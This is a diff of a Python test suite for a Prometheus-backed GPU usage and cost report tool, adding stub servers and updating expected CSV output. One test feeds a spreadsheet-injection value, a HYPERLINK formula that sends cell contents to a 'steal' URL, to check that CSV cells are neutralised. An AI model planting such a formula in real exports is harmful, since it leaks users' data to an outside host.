@@ -52,6 +52,24 @@ def matrix(*series: dict[str, Any]) -> dict[str, Any]:
     return {"status": "success", "data": {"resultType": "matrix", "result": list(series)}}
 
 
+def empty(path: str) -> dict[str, Any]:
+    """No data, in the shape the API path answers: a vector for instant queries."""
+    if path.endswith("/api/v1/query"):
+        return {"status": "success", "data": {"resultType": "vector", "result": []}}
+    return matrix()
+
+
+def empty_answer() -> web.Application:
+    """A Prometheus API without data."""
+    async def answer(request: web.Request) -> web.Response:
+        await request.read()
+        return web.json_response(empty(request.path))
+
+    app = web.Application()
+    app.router.add_post("/{tail:.*}", answer)
+    return app
+
+
 def report(base: str, *args: str) -> int:
     return main(["report", "--prometheus", base, *PERIOD, *args])
 
@@ -133,19 +151,42 @@ def stub_prometheus(points: dict[str, list[tuple[int, str]]],
                     workloads: list[dict[str, str]] | None = None) -> web.Application:
     """A Prometheus API that knows, per counter family, one series per workload (default:
     one, `LABELS`), with ``points`` as its last value in each step (what
-    `last_over_time(c[step])` answers); no resets, no raw samples."""
+    `last_over_time(c[step])` answers); no resets, no raw samples, no series that appears
+    after the first step. It answers the report's queries as Prometheus would for that
+    history: a series' last value before a time, and per group the differences of the
+    steps' values."""
+    def family_of(expr: str) -> str:
+        return expr[expr.index("last_over_time(") + len("last_over_time("):].split("{")[0].split("[")[0]
+
+    def number(value: float) -> str:
+        return "NaN" if value != value else ("+Inf" if value == float("inf") else
+                                            "-Inf" if value == -float("inf") else repr(value))
+
     async def query_range(request: web.Request) -> web.Response:
         expr = (await request.post())["query"]
-        if expr.startswith("resets("):
+        if not expr.startswith("sum by ("):  # no falls, nothing appears, no recording rules
             return web.json_response(matrix())
-        family = expr[len("last_over_time("):].split("{")[0].split("[")[0]
-        values = [[ts, v] for ts, v in points.get(family, [])]
-        return web.json_response(matrix(*({"metric": {"__name__": family, **labels}, "values": values}
-                                          for labels in workloads or [LABELS])))
+        by = [label.strip() for label in expr[len("sum by ("):expr.index(")")].split(",")]
+        values = [(ts, float(v)) for ts, v in points.get(family_of(expr), [])]
+        groups: dict[tuple, list] = {}
+        for labels in workloads or [LABELS]:
+            key = tuple(sorted((k, labels[k]) for k in by if labels.get(k)))
+            row = groups.setdefault(key, [0.0] * (len(values) - 1))
+            for k in range(1, len(values)):
+                row[k - 1] += values[k][1] - values[k - 1][1]
+        return web.json_response(matrix(*({"metric": dict(key), "values": [[values[k + 1][0], number(v)]
+                                                                            for k, v in enumerate(row)]}
+                                          for key, row in groups.items())))
 
     async def query(request: web.Request) -> web.Response:
-        await request.read()
-        return web.json_response(matrix())
+        form = await request.post()
+        at = float(form["time"])
+        expr = form["query"]
+        known = [(ts, v) for ts, v in points.get(family_of(expr), []) if ts <= at] if "last_over_time(" in expr else []
+        if not known:
+            return web.json_response({"status": "success", "data": {"resultType": "vector", "result": []}})
+        return web.json_response({"status": "success", "data": {"resultType": "vector", "result": [
+            {"metric": dict(labels), "value": [at, known[-1][1]]} for labels in workloads or [LABELS]]}})
 
     app = web.Application()
     app.router.add_post("/api/v1/query_range", query_range)
@@ -193,7 +234,7 @@ def test_a_figure_that_is_not_finite_is_null_in_json_and_empty_in_csv():
     doc = strict_loads(to_json({"groups": [group], "totals": {"x": [float("nan"), 1.0]}}))
     assert doc["groups"][0]["gpu_hours_used"] is None and doc["groups"][0]["gpu_hours_allocated"] is None
     assert doc["groups"][0]["waste_gpu_hours"] is None and doc["totals"]["x"] == [None, 1.0]
-    assert to_csv({"groups": [group]}).splitlines()[1] == '"ml","","","",0.0,1.5,"","","","","","",1,""'
+    assert to_csv({"groups": [group]}).splitlines()[1] == '"ml","","","",0.0,1.5,"","","","","","",1,"",""'
 
 
 def test_json_names_are_exact_and_hold_no_raw_control_character():
@@ -233,7 +274,7 @@ def test_csv_cells_never_start_a_formula_and_keep_their_row(capsys):
     for row in got.values():
         assert not row[0].startswith(DANGEROUS) and not row[-1].startswith(DANGEROUS)
         assert float(row[2]) == pytest.approx(2.0) and float(row[1]) == pytest.approx(0.5)  # figures stay numbers
-    assert got["'=HYPERLINK(\"http://host/steal?\"&A1,\"Open\")"][-1] == "slurm job 100 (u)=1.5h"
+    assert got["'=HYPERLINK(\"http://host/steal?\"&A1,\"Open\")"][-2] == "slurm job 100 (u)=1.5h"  # then carbon
     # the bytes as a spreadsheet reads them: the names quoted, the figures bare
     assert '\n"\'=HYPERLINK(""http://host/steal?""&A1,""Open"")",0.5,2.0,1.5,' in text
     assert '\n"lab\rsplit",0.5,2.0,' in text and '\n"plain-lab",0.5,2.0,' in text
@@ -247,7 +288,7 @@ def test_negative_figures_stay_numbers_in_csv():
              "waste_cost": None, "energy_cost": None, "total_cost": -4.0, "waste_ratio": 1.75, "workloads": 2,
              "top_waste": [{"workload": "-lab/p/c", "waste_gpu_hours": 3.5}]}
     line = to_csv({"groups": [group]}).splitlines()[1]
-    assert line == '"\'-lab",-1.5,2.0,3.5,0.0,-0.25,-4.0,"","","",-4.0,1.75,2,"\'-lab/p/c=3.5h"'
+    assert line == '"\'-lab",-1.5,2.0,3.5,0.0,-0.25,-4.0,"","","",-4.0,1.75,2,"\'-lab/p/c=3.5h",""'
 
 
 # ---- the size cap ---------------------------------------------------------------------------
@@ -287,7 +328,7 @@ def run_report_measured(args: list[str]) -> tuple[int, str, float, float]:
 
 def test_an_endless_answer_stops_at_the_cap_with_bounded_memory():
     cap = 16 * 2**20
-    with LoopbackServer(fixed_answer(json.dumps(matrix()))) as quick:
+    with LoopbackServer(empty_answer()) as quick:
         status, err, _, baseline_mib = run_report_measured(["--prometheus", quick.base, *PERIOD])
     assert status == 0, err
     with LoopbackServer(endless_answer()) as server:
@@ -396,7 +437,7 @@ def echoing_server() -> web.Application:
             return web.Response(text=f"<html>key={key}</html>", content_type="text/html")
         if request.path.startswith("/shape/"):
             return web.json_response(matrix({"metric": {"key": key}, "values": [[T0, key]]}))
-        return web.json_response(matrix())
+        return web.json_response(empty(request.path))
 
     app = web.Application()
     app.router.add_post("/{tail:.*}", answer)
